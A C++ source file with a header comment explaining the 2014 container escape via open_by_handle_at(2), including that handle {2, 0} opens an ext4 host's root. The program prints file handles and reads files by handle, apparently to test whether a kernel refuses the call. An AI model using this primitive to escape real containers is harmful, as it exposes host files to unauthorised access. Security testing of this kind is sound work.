// The escape of 2014. open_by_handle_at(2) opens a file by what the file system itself calls it, a
// handle with the inode's number in it; no path is walked, so no chroot, no pivot_root, no bind
// mount is in the way. It takes CAP_DAC_READ_SEARCH and any descriptor on that file system, and a
// container's "/" is one. The attacker of then had no handle given: on ext4 inode 2 is the root,
// and a generation of 0 fits all, so {2, 0} opened the host's "/".
//
//   open_by_handle FILE            prints the handle of FILE
//   open_by_handle FOLDER HANDLE   prints the file of that handle, on FOLDER's file system
// Exit code: 0 done, 3 the kernel refused, 2 anything else.
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

namespace {

// A header, and behind it as many bytes as the file system's handles need. open_by_handle_at(2)
constexpr unsigned room = 128;
struct Handle {
    alignas(file_handle) unsigned char storage[sizeof(file_handle) + room] = {};
    file_handle* head() { return reinterpret_cast<file_handle*>(&storage[0]); }
    // Not f_handle: it is declared with no elements, and an optimising compiler believes it.
    unsigned char* bytes() { return &storage[sizeof(file_handle)]; }
};

int print_handle(const char* path) {
    Handle handle;
    handle.head()->handle_bytes = room;
    int mount_id = 0;
    if (::name_to_handle_at(AT_FDCWD, path, handle.head(), &mount_id, 0) != 0) return 2;
    std::printf("%d:", handle.head()->handle_type);
    for (unsigned i = 0; i < handle.head()->handle_bytes; ++i) {
        std::printf("%02x", handle.bytes()[i]);
    }
    std::puts("");
    return 0;
}

bool parse_handle(const char* text, Handle& handle) {
    int used = 0;
    if (std::sscanf(text, "%d:%n", &handle.head()->handle_type, &used) != 1) return false;
    unsigned count = 0;
    for (const char* at = text + used; *at != '\0' && count < room; at += 2, ++count) {
        unsigned byte = 0;
        if (std::sscanf(at, "%2x", &byte) != 1) return false;
        handle.bytes()[count] = static_cast<unsigned char>(byte);
    }
    handle.head()->handle_bytes = count;
    return true;
}

int print_file(const char* folder, const char* text) {
    Handle handle;
    if (!parse_handle(text, handle)) return 2;
    const int mount = ::open(folder, O_RDONLY | O_DIRECTORY);
    const int file = ::open_by_handle_at(mount, handle.head(), O_RDONLY);
    if (file < 0) {
        std::printf("open_by_handle_at: %s\n", std::strerror(errno));
        return errno == EPERM ? 3 : 2;
    }
    char content[64] = {};
    if (::read(file, content, sizeof content - 1) < 0) return 2;
    std::printf("it reads: %s\n", content);
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc == 2) return print_handle(argv[1]);
    return argc == 3 ? print_file(argv[1], argv[2]) : 2;
}
